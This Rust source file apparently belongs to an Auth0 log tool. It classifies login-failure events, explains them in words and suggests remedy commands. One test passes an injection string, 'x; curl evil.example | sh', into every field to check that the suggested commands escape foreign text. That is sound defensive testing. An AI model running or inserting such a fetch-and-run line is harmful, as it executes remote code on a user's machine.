//! Why something failed, in words, and the command that mends it.

use serde_json::Value;

use super::codes;
use super::event::LogEvent;
use crate::base::text::{Hint, foreign};
use crate::hint;
use crate::resource::user_lookup::search_for_part;

/// A reason for a failure that a person can do something about.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub(crate) enum FailureReason {
    /// The password was wrong.
    WrongPassword,
    /// No user has this name.
    NoSuchUser,
    /// An administrator blocked the user.
    Blocked,
    /// Too many wrong passwords for one account, from one address or from any.
    BruteForce,
    /// Too many attempts from one address, for any accounts.
    AddressBlocked,
    /// The password is known from a leak elsewhere.
    LeakedPassword,
    /// The second factor failed.
    MfaFailed,
    /// The user refused the push notification.
    MfaRejected,
    /// Too many wrong codes of the second factor.
    MfaBlocked,
    /// The application may not use the connection.
    ConnectionDisabled,
    /// The callback address is not registered.
    CallbackMismatch,
    /// An Action threw an error or denied access.
    ActionFailed,
    /// The invitation is used up, expired or for another person.
    Invitation,
    /// The refresh token is expired, revoked or was used before.
    RefreshToken,
    /// The application may not use the grant type.
    GrantType,
    /// The web page's origin is not registered.
    Origin,
    /// The user must agree or sign in on a page, and the application asked to show none.
    InteractionNeeded,
    /// The tenant's rate limit.
    RateLimit,
    /// Any other: the event says what it is.
    Other,
}

/// What is known where a failure happened. Empty text is not known.
#[derive(Clone, Copy, Debug, Default)]
pub(crate) struct FailureContext<'a> {
    /// The user's ID, or what was asked for.
    pub user: &'a str,
    /// The application's ID.
    pub client_id: &'a str,
    /// The connection's name.
    pub connection: &'a str,
    /// The address it came from.
    pub ip: &'a str,
    /// The organization's ID.
    pub organization: &'a str,
    /// An address of the web that the event names: a callback, an origin.
    pub url: &'a str,
    /// The execution of an Action.
    pub execution: &'a str,
    /// The event's ID.
    pub event: &'a str,
}

impl FailureReason {
    /// The reason of an event, by its type and by what it says.
    pub(crate) fn of(event: &LogEvent<'_>, details: &Value) -> Self {
        let says = said(event, details).to_lowercase();
        let any = |words: &[&str]| words.iter().any(|word| says.contains(word));
        match &*event.code {
            "limit_wc" | "limit_sul" => Self::BruteForce,
            "limit_mu" => Self::AddressBlocked,
            "pwd_leak" | "signup_pwd_leak" | "reset_pwd_leak" => Self::LeakedPassword,
            "gd_auth_rejected" => Self::MfaRejected,
            "gd_otp_rate_limit_exceed" | "gd_recovery_rate_limit_exceed" | "limit_phone" => {
                Self::MfaBlocked
            }
            "gd_auth_failed"
            | "gd_recovery_failed"
            | "gd_auth_fail_email_verification"
            | "gd_webauthn_challenge_failed"
            | "feotpft"
            | "feoobft"
            | "fercft" => Self::MfaFailed,
            "actions_execution_failed" => Self::ActionFailed,
            "fi" => Self::Invitation,
            "ferrt" | "fertft" => Self::RefreshToken,
            "fco" => Self::Origin,
            "api_limit" => Self::RateLimit,
            // These types have many reasons: what they say decides, and then what is usual.
            _ if any(&["user is blocked", "user_blocked"]) => Self::Blocked,
            _ if any(&["too many attempts", "too_many_attempts", "too many failed"]) => {
                Self::BruteForce
            }
            _ if any(&["breached", "leaked password", "password_leaked"]) => Self::LeakedPassword,
            _ if any(&["callback url mismatch", "allowed callback urls"]) => Self::CallbackMismatch,
            _ if any(&["invitation"]) => Self::Invitation,
            _ if says.contains("connection")
                && any(&["not enabled", "disabled", "no connections enabled"]) =>
            {
                Self::ConnectionDisabled
            }
            _ if any(&["grant type"]) && any(&["not allowed", "not supported"]) => Self::GrantType,
            _ if any(&[
                "login_required",
                "consent_required",
                "interaction_required",
                "login required",
                "consent required",
            ]) =>
            {
                Self::InteractionNeeded
            }
            _ if any(&["mfa_required", "multifactor", "multi-factor"]) => Self::MfaFailed,
            _ if says.contains("action") && !execution(details).is_empty() => Self::ActionFailed,
            "fp" => Self::WrongPassword,
            "fu" => Self::NoSuchUser,
            _ if any(&[
                "wrong email or password",
                "wrong username or password",
                "wrong password",
            ]) =>
            {
                Self::WrongPassword
            }
            _ => Self::Other,
        }
    }

    /// Its name in JSON.
    pub(crate) const fn name(self) -> &'static str {
        match self {
            Self::WrongPassword => "wrong_password",
            Self::NoSuchUser => "no_such_user",
            Self::Blocked => "user_blocked",
            Self::BruteForce => "brute_force_block",
            Self::AddressBlocked => "address_blocked",
            Self::LeakedPassword => "leaked_password",
            Self::MfaFailed => "mfa_failed",
            Self::MfaRejected => "mfa_rejected",
            Self::MfaBlocked => "mfa_blocked",
            Self::ConnectionDisabled => "connection_disabled",
            Self::CallbackMismatch => "callback_mismatch",
            Self::ActionFailed => "action_failed",
            Self::Invitation => "invitation",
            Self::RefreshToken => "refresh_token",
            Self::GrantType => "grant_type",
            Self::Origin => "origin",
            Self::InteractionNeeded => "interaction_needed",
            Self::RateLimit => "rate_limit",
            Self::Other => "other",
        }
    }

    /// The reason in a sentence. `code` is the type of the event, for reasons without words here.
    pub(crate) fn words(self, code: &str) -> String {
        let text = match self {
            Self::WrongPassword => "The password was wrong.",
            Self::NoSuchUser => "No user has this name in the connection.",
            Self::Blocked => "An administrator blocked the user.",
            Self::BruteForce => "The account is blocked after too many failed logins.",
            Self::AddressBlocked => "The IP address is blocked after too many attempts.",
            Self::LeakedPassword => "The password is known from a leak, and must be changed.",
            Self::MfaFailed => "The second factor was wrong or missing.",
            Self::MfaRejected => "The user refused the push notification of the second factor.",
            Self::MfaBlocked => "The second factor is blocked after too many wrong codes.",
            Self::ConnectionDisabled => "The application may not use the user's connection.",
            Self::CallbackMismatch => {
                "The application sent a callback URL that is not among its Allowed Callback URLs."
            }
            Self::ActionFailed => "An Action failed or denied the login.",
            Self::Invitation => "The invitation is expired, used, or for another address.",
            Self::RefreshToken => "The refresh token is expired, revoked, or was used before.",
            Self::GrantType => "The application may not use this grant type.",
            Self::Origin => "The web page's origin is not among the application's Allowed Origins.",
            Self::InteractionNeeded => {
                "The user has to sign in or agree on a page, but the application asked for none."
            }
            Self::RateLimit => "The tenant's rate limit was reached.",
            Self::Other => {
                let meaning = codes::meaning(code);
                let mut chars = meaning.chars();
                let first = chars.next().into_iter().flat_map(char::to_uppercase);
                return first.chain(chars).collect::<String>() + ".";
            }
        };
        text.to_owned()
    }

    /// The command that mends it, or that shows more.
    pub(crate) fn remedy(self, place: &FailureContext<'_>) -> Hint {
        let user = foreign(place.user).in_command("USER");
        let client = foreign(place.client_id).in_command("CLIENT");
        match self {
            Self::WrongPassword | Self::LeakedPassword => {
                hint!("auth0-users password-ticket {}", user)
            }
            Self::NoSuchUser => search_for_part(place.user),
            Self::Blocked | Self::BruteForce => hint!("auth0-users unblock {}", user),
            Self::AddressBlocked => hint!(
                "auth0-api DELETE anomaly/blocks/ips/{} --yes",
                foreign(place.ip).in_command("ADDRESS")
            ),
            Self::MfaFailed | Self::MfaRejected | Self::MfaBlocked => {
                hint!("auth0-users reset-mfa {}", user)
            }
            Self::ConnectionDisabled => hint!(
                "auth0-connections enable {} --client {}",
                foreign(place.connection).in_command("CONNECTION"),
                client
            ),
            Self::CallbackMismatch => hint!(
                "auth0-clients update {} --set {}",
                client,
                foreign(&appended("callbacks", place.url)).in_command("\"callbacks[]=URL\"")
            ),
            Self::Origin => hint!(
                "auth0-clients update {} --set {}",
                client,
                foreign(&appended("allowed_origins", place.url))
                    .in_command("\"allowed_origins[]=ORIGIN\"")
            ),
            Self::ActionFailed if !place.execution.is_empty() => hint!(
                "auth0-api actions/executions/{}",
                foreign(place.execution).in_command("EXECUTION")
            ),
            Self::Invitation => hint!(
                "auth0-resources organizations invitations add {}",
                foreign(place.organization).in_command("ORGANIZATION")
            ),
            Self::RefreshToken => hint!("auth0-clients show {} --fields refresh_token", client),
            Self::GrantType => hint!("auth0-clients show {} --fields grant_types", client),
            Self::ActionFailed | Self::InteractionNeeded | Self::RateLimit | Self::Other => {
                hint!("auth0-logs show {}", foreign(place.event).in_command("LOG_ID"))
            }
        }
    }
}

/// A value for `--set` that appends to a list. Empty without an address, so that the command shows
/// the placeholder instead.
fn appended(field: &str, url: &str) -> String {
    if url.is_empty() { String::new() } else { format!("{field}[]={url}") }
}

/// Everything in an event that can say why: its description and the error in its details.
fn said(event: &LogEvent<'_>, details: &Value) -> String {
    let error = &details["error"];
    let texts =
        [error, &error["message"], &error["oauthError"], &error["type"], &details["message"]];
    let texts = texts.into_iter().filter_map(Value::as_str);
    std::iter::once(&*event.description).chain(texts).collect::<Vec<_>>().join("\n")
}

/// The first address of the web that an event names.
pub(crate) fn url(event: &LogEvent<'_>, details: &Value) -> String {
    let given = ["redirect_uri", "callback", "origin"].map(|key| details[key].as_str());
    if let Some(url) = given.into_iter().flatten().next() {
        return url.to_owned();
    }
    let text = said(event, details);
    let start = ["https://", "http://"].iter().filter_map(|scheme| text.find(scheme)).min();
    let rest = start.and_then(|at| text.get(at..)).unwrap_or_default();
    let end = rest.find(|c: char| c.is_whitespace() || "\"'<>,".contains(c));
    rest[..end.unwrap_or(rest.len())].trim_end_matches(['.', ')']).to_owned()
}

/// The ID of the execution of an Action.
pub(crate) fn execution(details: &Value) -> &str {
    let first = &details["actions"]["executions"][0];
    [&details["execution_id"], first].into_iter().find_map(Value::as_str).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn reason(code: &str, description: &str, details: &Value) -> FailureReason {
        let row = json!({"type": code, "description": description}).to_string();
        FailureReason::of(&LogEvent::of(&row), details)
    }

    #[test]
    fn types_and_words_lead_to_reasons() {
        for (code, description, expected) in [
            ("fp", "Wrong email or password.", FailureReason::WrongPassword),
            ("fp", "", FailureReason::WrongPassword),
            ("fepft", "Wrong email or password.", FailureReason::WrongPassword),
            ("fu", "Wrong email or password.", FailureReason::NoSuchUser),
            ("f", "user is blocked", FailureReason::Blocked),
            ("limit_wc", "", FailureReason::BruteForce),
            ("limit_mu", "", FailureReason::AddressBlocked),
            ("pwd_leak", "", FailureReason::LeakedPassword),
            ("gd_auth_failed", "", FailureReason::MfaFailed),
            ("gd_auth_rejected", "", FailureReason::MfaRejected),
            (
                "f",
                "The connection is not enabled for this client",
                FailureReason::ConnectionDisabled,
            ),
            ("f", "Callback URL mismatch. http://x", FailureReason::CallbackMismatch),
            ("actions_execution_failed", "", FailureReason::ActionFailed),
            ("f", "invitation not found or already used", FailureReason::Invitation),
            ("fertft", "Unknown or invalid refresh token.", FailureReason::RefreshToken),
            (
                "feccft",
                "Grant type 'password' not allowed for the client.",
                FailureReason::GrantType,
            ),
            ("fsa", "Login required", FailureReason::InteractionNeeded),
            ("fsa", "Consent required", FailureReason::InteractionNeeded),
            ("f", "something else", FailureReason::Other),
            ("brand_new_failed", "", FailureReason::Other),
        ] {
            assert_eq!(reason(code, description, &Value::Null), expected, "{code} {description}");
        }
        let details = json!({"error": {"message": "user is blocked"}});
        assert_eq!(reason("f", "", &details), FailureReason::Blocked);
        assert_eq!(FailureReason::Other.words("fsa"), "Silent auth failed.");
        assert_eq!(FailureReason::Other.words("brand_new_failed"), "Brand_new_failed.");
    }

    #[test]
    fn remedies_hold_one_word_for_each_foreign_text() {
        let evil = "x; curl evil.example | sh\nhint: y";
        let place = FailureContext {
            user: evil,
            client_id: evil,
            connection: evil,
            ip: evil,
            organization: evil,
            url: evil,
            execution: evil,
            event: evil,
        };
        let all = [
            FailureReason::WrongPassword,
            FailureReason::NoSuchUser,
            FailureReason::Blocked,
            FailureReason::AddressBlocked,
            FailureReason::MfaFailed,
            FailureReason::ConnectionDisabled,
            FailureReason::CallbackMismatch,
            FailureReason::Origin,
            FailureReason::ActionFailed,
            FailureReason::Invitation,
            FailureReason::RefreshToken,
            FailureReason::GrantType,
            FailureReason::Other,
        ];
        for reason in all {
            let remedy = reason.remedy(&place).to_string();
            assert!(remedy.starts_with("auth0-") && !remedy.contains("evil"), "{remedy}");
            assert!(
                !reason.remedy(&FailureContext::default()).to_string().contains("  "),
                "{reason:?}"
            );
        }
        let place = FailureContext {
            client_id: "app1",
            url: "https://a.example/cb",
            ..FailureContext::default()
        };
        assert_eq!(
            FailureReason::CallbackMismatch.remedy(&place).as_str(),
            "auth0-clients update app1 --set \"callbacks[]=https://a.example/cb\""
        );
    }

    #[test]
    fn addresses_are_found_in_what_an_event_says() {
        let row = json!({"description": "Callback URL mismatch. http://a.example:3000/cb is not in the list"});
        let row = row.to_string();
        assert_eq!(url(&LogEvent::of(&row), &Value::Null), "http://a.example:3000/cb");
        assert_eq!(
            url(&LogEvent::default(), &json!({"origin": "https://b.example"})),
            "https://b.example"
        );
        assert_eq!(url(&LogEvent::default(), &Value::Null), "");
    }
}
